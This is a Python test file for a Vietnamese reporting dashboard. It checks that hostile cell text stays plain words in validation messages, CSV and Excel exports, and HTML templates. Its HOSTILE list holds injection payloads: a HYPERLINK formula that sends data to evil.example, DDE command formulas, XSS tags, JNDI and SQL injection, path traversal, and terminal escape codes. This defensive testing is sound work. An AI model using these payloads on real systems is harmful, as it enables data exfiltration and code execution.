"""Words made to act: markup, formulas, signs that rule a terminal. They stay words everywhere."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from typing import TYPE_CHECKING

import openpyxl
import pytest

from dashboard.cli.check_output import as_entries, as_text
from dashboard.exports.csv_file import write_csv
from dashboard.exports.table_workbook import write_workbook
from dashboard.exports.tables import Column, Table
from dashboard.ingest.submissions.accept import LoadedFile
from dashboard.web.templates import TEMPLATE_FOLDERS, _environment
from tests.support.exported_table import HEADING
from tests.support.stores import CATALOGUE
from tests.support.workbook_builder import Book, check, figures, places
from tests.support.workbook_layouts import write_xls

if TYPE_CHECKING:
    from pathlib import Path

    from dashboard.ingest.outcome import ValidationResult

pytestmark = pytest.mark.usefixtures("read_here")

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }}{% raw %}${jndi:ldap://x}",
    "{0.__class__}{measure}{unit}",
    "'; drop table submission; --",
    "../../../../etc/passwd",
    "\u202egnp.exe\u202c",
    "a\u200b\u200d\ufeffb",
    "ﷺ" * 50,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "[bấm](javascript:alert(1)) **đậm** $\\LaTeX$ :red[x]",
    "x" * 5_000,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 " * 30,
)
RULING = "\x1b[2J\x1b]0;x\x07\x9b31m"


def _loaded(file: ValidationResult) -> LoadedFile:
    return LoadedFile(file, None)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize(
    ("form", "cell", "rule"),
    [
        ("membership", "E9", "cell.not_a_number"),
        ("membership", "C9", None),
        ("rating", "D9", "cell.bad_category"),
        ("rating", "E9", "cell.bad_flag"),
        ("obligation", "D9", "cell.bad_date"),
        ("obligation", "E9", None),
        ("enterprise", "C9", None),
        ("membership", "Z7", "header.unknown"),
        ("organisation", "A2", "file.unknown_district"),
        ("organisation", "A4", "file.unknown_quarter"),
    ],
)
def test_each_place_that_holds_words(
    tmp_path: Path, form: str, cell: str, rule: str | None, text: str
) -> None:
    book = Book().put(form, cell, text)
    if cell.startswith("A"):
        label = "Đơn vị báo cáo: " if cell == "A2" else "Kỳ báo cáo: "
        for other in book.rows:
            book.put(other, cell, label + text)
    file = book.check(tmp_path)
    assert {found for found, *_ in places(file)} <= {rule}
    # A header without a letter is none; one without end is no header.
    if rule != "header.unknown" or (len(text) < 400 and any(map(str.isalpha, text))):
        assert bool(places(file)) == bool(rule)
    said = as_text([_loaded(file)], CATALOGUE)
    assert all(letter.isprintable() or letter == "\n" for letter in said)
    assert json.loads(json.dumps(as_entries([_loaded(file)]), ensure_ascii=False))
    for finding in file.findings:
        for language in ("vi", "en"):
            message = finding.message(language)
            assert len(message) < 700
            assert message.isprintable()


def test_signs_that_rule_a_terminal(tmp_path: Path) -> None:
    sheets = Book().put("membership", "E9", f"ba{RULING}").sheets()
    renamed = {f"{name[:20]}": grid for name, grid in sheets.items()}
    file = check(write_xls(tmp_path / "book.xls", renamed))
    assert [rule for rule, *_ in places(file)] == ["cell.not_a_number"]
    assert "\x1b" not in as_text([_loaded(file)], CATALOGUE)
    assert "\x9b" not in as_text([_loaded(file)], CATALOGUE)


def test_kept_names_leave_as_words(tmp_path: Path) -> None:
    """The name of an enterprise goes through the store to pages and downloads as it stands."""
    shown = [text for text in HOSTILE if len(text) < 400]
    book = Book()
    book.rows["enterprise"] = [
        {"unit": f"E{number}", "name": text, "workers": 1, "has_org": 0, "org_founded": 0,
         "enterprise_admitted": 0}
        for number, text in enumerate(shown, 1)
    ]  # fmt: skip
    file = book.check(tmp_path)
    assert not file.refused, places(file)
    names = [figures(file, "enterprise", f"E{n}")["name"] for n in range(1, len(shown) + 1)]
    columns = (
        Column[tuple[str, int]]("name", lambda row: row[0], heading="name"),
        Column[tuple[str, int]]("figure", lambda row: row[1], heading="figure"),
    )
    table = Table("Bảng", columns, list(zip(names, range(len(names)), strict=True)))
    heading = replace(HEADING, province=names[0], programme=names[-1], filters=names)
    rows = list(csv.reader(io.StringIO(write_csv(table, heading).decode("utf-8-sig"))))
    for name, (*_, shown_name, _) in zip(names, rows[1:], strict=True):
        assert shown_name in {name, f"'{name}"}
    cells_of_csv = [cell for row in rows for cell in row]
    assert not [c for c in cells_of_csv if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    content = write_workbook(table, heading)
    page = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [cell for row in page.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert not [cell for cell in cells if cell.hyperlink]


def test_a_page_shows_markup_as_it_is_written() -> None:
    template = _environment().from_string('<p title="{{ text }}">{{ text }}</p>')
    for text in HOSTILE:
        html = template.render(text=text)
        assert html.count("<") == 2
        assert html.count(">") == 2
        assert html.count('"') == 2


def test_no_template_takes_words_for_markup() -> None:
    templates = [path for folder in TEMPLATE_FOLDERS for path in folder.glob("*.html")]
    assert templates
    for template in templates:
        assert not re.search(r"\|\s*safe\b|autoescape\s+false", template.read_text("utf-8"))
